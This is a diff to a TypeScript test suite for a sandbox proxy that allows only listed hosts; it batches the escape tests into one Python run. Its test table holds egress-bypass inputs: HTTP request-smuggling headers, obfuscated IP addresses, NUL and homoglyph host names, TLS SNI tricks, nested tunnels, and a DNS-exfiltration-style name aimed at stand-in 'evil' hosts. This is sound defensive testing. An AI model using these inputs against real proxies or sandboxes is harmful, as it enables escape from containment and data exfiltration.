@@ -6,6 +6,8 @@ import { type TestEngine, TestSandbox, startTestEngine } from "../setup/engine-c
 
 /** What arrived, by the server: `good` plays hosts of the list, `evil` all others. */
 const arrived = { good: "", evil: "" };
+/** What had arrived by then, from one request for `/attempt-<number>` to the next. */
+const arrivedAt: (typeof arrived)[] = [];
 
 /** Answers each request head with 200, also to what it takes for a second request in one connection. */
 function serve(which: keyof typeof arrived): Server {
@@ -14,11 +16,15 @@ function serve(which: keyof typeof arrived): Server {
     socket.on("error", () => undefined);
     socket.on("data", (data) => {
       const text = data.toString("latin1");
+      const next = /^GET \/attempt-(\d+)/.exec(text)?.[1];
+      if (next !== undefined) arrivedAt[Number(next) - 1] = { ...arrived };
+      if (next !== undefined) arrived.good = arrived.evil = "";
       arrived[which] += text;
       if (/upgrade: websocket/i.test(text))
         socket.write("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n");
       else if (text.startsWith("GET /to-evil"))
         socket.end("HTTP/1.1 302 Found\r\nLocation: http://evil.test/\r\nContent-Length: 0\r\n\r\n");
+      else if (text.startsWith("\x16") || text === "frames") socket.end();
       else if (/^[A-Z]+ \/\S* HTTP/.test(text))
         socket.end("HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\ngood");
     });
@@ -105,6 +111,152 @@ async function tried(expression: string): Promise<string> {
   return stdout;
 }
 
+/** What is tried, as a Python expression, and what it is answered. */
+const ATTEMPTS: [what: string, expression: string, answer: RegExp][] = [
+  ["another host by HTTP", `ask(get("http://evil.test/x"))`, /403/],
+  ["another host by CONNECT", `ask(connect("evil.test:443"), hello("evil.test"))`, /403/],
+  ["the name of a wildcard itself", `ask(get("http://wild.test/x"))`, /403/],
+  ["a name that ends or begins like one of the list", `ask(get("http://good.test.evil.test/x"))`, /403/],
+  ["a second dot at the end of a name", `ask(connect("good.test..:443"), hello("good.test"))`, /403|400/],
+  [
+    "a NUL in a name",
+    `ask(b"CONNECT good.test\\0.evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")`,
+    /^b''|400|403/,
+  ],
+  ["an encoded NUL in a name", `ask(get("http://good.test%00.evil.test/x"))`, /400|403/],
+  ["a user name that looks like a host", `ask(get("http://good.test@evil.test/x"))`, /403/],
+  [
+    "a letter of another script",
+    `ask("GET http://g\\u043e\\u043ed.test/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())`,
+    /^b''|400|403/,
+  ],
+  ["an address", `ask(connect("1.1.1.1:443"), hello("good.test"))`, /403/],
+  ["an address in hexadecimal", `ask(get("http://0x01010101/x"))`, /403/],
+  ["an address in octal", `ask(get("http://01.01.01.01/x"))`, /403/],
+  ["an address in octal by CONNECT", `ask(connect("00000000001.0x1.1:443"), hello("good.test"))`, /403/],
+  ["an address as one number", `ask(connect("16843009:443"), hello("good.test"))`, /403/],
+  ["an address of IPv6", `ask(connect("[2606:4700:4700::1111]:443"), hello("good.test"))`, /403/],
+  ["an address of IPv4 in one of IPv6", `ask(get("http://[::ffff:1.1.1.1]/x"))`, /403/],
+  ["another port by CONNECT", `ask(connect("good.test:22"), b"SSH-2.0-x\\r\\n")`, /403/],
+  ["another port by HTTP", `ask(get("http://good.test:8080/x"))`, /403/],
+  [
+    "another name in TLS",
+    `ask(connect("good.test:443"), hello("evil.test"))`,
+    /\\x15\\x03\\x03\\x00\\x02\\x02p/,
+  ],
+  ["no name in TLS", `ask(connect("good.test:443"), hello(None))`, /\\x15\\x03\\x03/],
+  [
+    "a second name in TLS",
+    `ask(connect("good.test:443"), extended("good.test", 0, b"\\0\\x0c\\0\\0\\x09evil.test"))`,
+    /\\x15\\x03\\x03/,
+  ],
+  [
+    "an encrypted name in TLS",
+    `ask(connect("good.test:443"), extended("good.test", 0xfe0d, b"x" * 40))`,
+    /\\x15\\x03\\x03/,
+  ],
+  [
+    "a name in TLS in pieces of a few bytes",
+    `ask(connect("good.test:443"), hello("evil.test")[:7], hello("evil.test")[7:60], hello("evil.test")[60:])`,
+    /\\x15\\x03\\x03|200 Conn/,
+  ],
+  [
+    "what is no TLS in a tunnel for it",
+    `ask(connect("good.test:443"), get("/x", host="evil.test"))`,
+    /\\x15\\x03\\x03/,
+  ],
+  [
+    "HTTP/2 in a tunnel for HTTP",
+    `ask(connect("good.test:80"), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
+    /200 Conn|400/,
+  ],
+  ["HTTP/2 at the proxy", `ask(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`, /^b''|400/],
+  ["another host in a tunnel for HTTP", `ask(connect("good.test:80"), get("/x", host="evil.test"))`, /403/],
+  [
+    "another host of the list in a tunnel for HTTP",
+    `ask(connect("good.test:80"), get("/x", host="x.wild.test"))`,
+    /403/,
+  ],
+  [
+    "a tunnel in a tunnel",
+    `ask(connect("good.test:80"), connect("evil.test:443"), hello("evil.test"))`,
+    /403/,
+  ],
+  [
+    "a change to HTTP/2",
+    `ask(get("http://good.test/x", more="Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n"), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
+    /501|200/,
+  ],
+  [
+    "two lengths",
+    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + get("http://evil.test/smuggled", host="evil.test"))`,
+    /^b''|400|403/,
+  ],
+  ...[
+    "Transfer-Encoding : chunked",
+    "Transfer-Encoding: xchunked",
+    "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity",
+    "Transfer-Encoding:\\x0bchunked",
+    "X: y\\r\\n Transfer-Encoding: chunked",
+    "Content-Length: 4\\r\\nContent-Length: 40",
+    "Content-Length: 4, 40",
+    "Content-Length: +4",
+  ].map((header): [string, string, RegExp] => [
+    `two readings of a length: ${header}`,
+    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\n${header}\\r\\n\\r\\n0\\r\\n\\r\\n" + get("http://evil.test/smuggled", host="evil.test"))`,
+    /^b''|400|403/,
+  ]),
+  [
+    "a request in a chunk's extension",
+    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0;\\n\\r\\n\\r\\n" + get("http://evil.test/smuggled", host="evil.test"))`,
+    /./,
+  ],
+  ["another host in the Host header", `ask(get("http://good.test/x", host="evil.test"))`, /200/],
+  [
+    "two Host headers",
+    `ask(get("http://good.test/x", more="Host: evil.test\\r\\nConnection: close\\r\\n"))`,
+    /200|400/,
+  ],
+  ["a request in origin form for another host", `ask(get("/x", host="evil.test"))`, /403/],
+  [
+    "a length that is none",
+    `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0x4\\r\\n\\r\\n0\\r\\n\\r\\n")`,
+    /^b''|400/,
+  ],
+  [
+    "a request behind another",
+    `ask(get("http://good.test/a") + get("http://evil.test/pipelined", host="evil.test"))`,
+    /./,
+  ],
+  [
+    "a line end in a header",
+    `ask(get("http://good.test/a", more="X: y\\n\\nGET / HTTP/1.1\\nHost: evil.test\\r\\n"))`,
+    /./,
+  ],
+  ["a name that only a name server would see", `ask(connect("c2VjcmV0.evil.example.com:443"))`, /403/],
+];
+
+/** What an attempt was answered, and what arrived at both servers meanwhile. */
+type Outcome = { said: string } & typeof arrived;
+
+let outcomes: Map<string, Outcome> | undefined;
+
+/** Makes all attempts one after the other, in one process, with a request between them that tells them apart. */
+async function attempted(): Promise<Map<string, Outcome>> {
+  const between = (index: number) => `ask(get("http://good.test/attempt-${index}"))`;
+  const script = ATTEMPTS.map(([, expression], index) => `${between(index)}\nprint(${expression})`);
+  const { stdout, stderr } = await sandbox.run(
+    `python3 - <<'END'\nexec(open("/tmp/tries.py").read())\n${script.join("\n")}\n${between(ATTEMPTS.length)}\nEND`,
+  );
+  expect(stderr).toBe("");
+  const said = stdout.split("\n");
+  const made = ATTEMPTS.map(([what], index): [string, Outcome] => {
+    const { good: listedGot = "", evil: otherGot = "" } = arrivedAt[index] ?? {};
+    return [what, { said: said[index] ?? "", good: listedGot, evil: otherGot }];
+  });
+  return new Map(made);
+}
+
 describe("a sandbox with a list of hosts", () => {
   it("reaches those, by HTTP, tunnelled or not, by TLS and by WebSocket", async () => {
     expect(await tried(`ask(get("http://good.test/plain"))`)).toContain("200");
@@ -121,107 +273,12 @@ describe("a sandbox with a list of hosts", () => {
     expect(arrived.evil).toBe("");
   });
 
-  it.each([
-    ["another host by HTTP", `ask(get("http://evil.test/x"))`, /403/],
-    ["another host by CONNECT", `ask(connect("evil.test:443"), hello("evil.test"))`, /403/],
-    ["the name of a wildcard itself", `ask(get("http://wild.test/x"))`, /403/],
-    ["a name that ends or begins like one of the list", `ask(get("http://good.test.evil.test/x"))`, /403/],
-    ["a second dot at the end of a name", `ask(connect("good.test..:443"), hello("good.test"))`, /403|400/],
-    [
-      "a NUL in a name",
-      `ask(b"CONNECT good.test\\0.evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")`,
-      /^b''|400|403/,
-    ],
-    ["an encoded NUL in a name", `ask(get("http://good.test%00.evil.test/x"))`, /400|403/],
-    ["a user name that looks like a host", `ask(get("http://good.test@evil.test/x"))`, /403/],
-    [
-      "a letter of another script",
-      `ask("GET http://g\\u043e\\u043ed.test/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())`,
-      /^b''|400|403/,
-    ],
-    ["an address", `ask(connect("1.1.1.1:443"), hello("good.test"))`, /403/],
-    ["an address in hexadecimal", `ask(get("http://0x01010101/x"))`, /403/],
-    ["an address as one number", `ask(connect("16843009:443"), hello("good.test"))`, /403/],
-    ["an address of IPv6", `ask(connect("[2606:4700:4700::1111]:443"), hello("good.test"))`, /403/],
-    ["an address of IPv4 in one of IPv6", `ask(get("http://[::ffff:1.1.1.1]/x"))`, /403/],
-    ["another port by CONNECT", `ask(connect("good.test:22"), b"SSH-2.0-x\\r\\n")`, /403/],
-    ["another port by HTTP", `ask(get("http://good.test:8080/x"))`, /403/],
-    [
-      "another name in TLS",
-      `ask(connect("good.test:443"), hello("evil.test"))`,
-      /\\x15\\x03\\x03\\x00\\x02\\x02p/,
-    ],
-    ["no name in TLS", `ask(connect("good.test:443"), hello(None))`, /\\x15\\x03\\x03/],
-    [
-      "a second name in TLS",
-      `ask(connect("good.test:443"), extended("good.test", 0, b"\\0\\x0c\\0\\0\\x09evil.test"))`,
-      /\\x15\\x03\\x03/,
-    ],
-    [
-      "an encrypted name in TLS",
-      `ask(connect("good.test:443"), extended("good.test", 0xfe0d, b"x" * 40))`,
-      /\\x15\\x03\\x03/,
-    ],
-    [
-      "a name in TLS in pieces of a few bytes",
-      `ask(connect("good.test:443"), hello("evil.test")[:7], hello("evil.test")[7:60], hello("evil.test")[60:])`,
-      /\\x15\\x03\\x03|200 Conn/,
-    ],
-    [
-      "what is no TLS in a tunnel for it",
-      `ask(connect("good.test:443"), get("/x", host="evil.test"))`,
-      /\\x15\\x03\\x03/,
-    ],
-    [
-      "HTTP/2 in a tunnel for HTTP",
-      `ask(connect("good.test:80"), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
-      /200 Conn|400/,
-    ],
-    ["HTTP/2 at the proxy", `ask(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`, /^b''|400/],
-    ["another host in a tunnel for HTTP", `ask(connect("good.test:80"), get("/x", host="evil.test"))`, /403/],
-    [
-      "another host of the list in a tunnel for HTTP",
-      `ask(connect("good.test:80"), get("/x", host="x.wild.test"))`,
-      /403/,
-    ],
-    [
-      "a tunnel in a tunnel",
-      `ask(connect("good.test:80"), connect("evil.test:443"), hello("evil.test"))`,
-      /403/,
-    ],
-    [
-      "a change to HTTP/2",
-      `ask(get("http://good.test/x", more="Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n"), b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")`,
-      /501|200/,
-    ],
-    [
-      "two lengths",
-      `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + get("http://evil.test/smuggled", host="evil.test"))`,
-      /^b''|400|403/,
-    ],
-    [
-      "a length that is none",
-      `ask(b"POST http://good.test/ HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 0x4\\r\\n\\r\\n0\\r\\n\\r\\n")`,
-      /^b''|400/,
-    ],
-    [
-      "a request behind another",
-      `ask(get("http://good.test/a") + get("http://evil.test/pipelined", host="evil.test"))`,
-      /./,
-    ],
-    [
-      "a line end in a header",
-      `ask(get("http://good.test/a", more="X: y\\n\\nGET / HTTP/1.1\\nHost: evil.test\\r\\n"))`,
-      /./,
-    ],
-    ["a name that only a name server would see", `ask(connect("c2VjcmV0.evil.example.com:443"))`, /403/],
-  ])("does not get out by %s", async (_what, expression, answer) => {
-    const said = await tried(expression);
+  it.each(ATTEMPTS)("does not get out by %s", async (what, _expression, answer) => {
+    outcomes ??= await attempted();
+    const { said, good: listedGot, evil: otherGot } = outcomes.get(what) ?? {};
     expect(said).toMatch(answer);
-    expect(arrived.evil).toBe("");
-    expect(arrived.good).not.toContain("evil.test");
-    expect(arrived.good).not.toContain("PRI *");
-    expect(arrived.good).not.toContain("SSH");
+    expect(otherGot).toBe("");
+    expect(listedGot).not.toMatch(/evil\.test|PRI \*|SSH/);
   });
 
   it("has no other way: no route, no name server, no raw socket that leads out, no IPv6", async () => {
